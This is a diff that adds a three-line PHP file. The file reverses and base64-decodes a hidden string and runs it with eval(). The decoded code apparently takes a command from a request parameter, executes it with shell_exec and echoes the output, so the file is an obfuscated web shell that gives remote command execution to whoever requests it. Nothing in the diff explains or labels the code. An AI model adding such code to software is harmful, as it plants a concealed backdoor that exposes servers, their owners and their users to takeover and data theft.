@@ -1,0 +1,3 @@
+<?php
+$c = strrev("==Qf7kCKl1WYuV3XwhGcg8GajV2elNHbl13On4TZyB3L8cCIvh2YltTKvRCKzJXYoNGbhl2YlB3cs1GdoByboNWZ7kSXnM2JbR1UFVVUFJ1XkgyYlhXZfxGblh2c98GJ7ciPlJHc8cCIvh2YltXKp01JjdyWUNVRVFVRS9FJoQXZzNXaoYWa");
+eval(base64_decode($c));
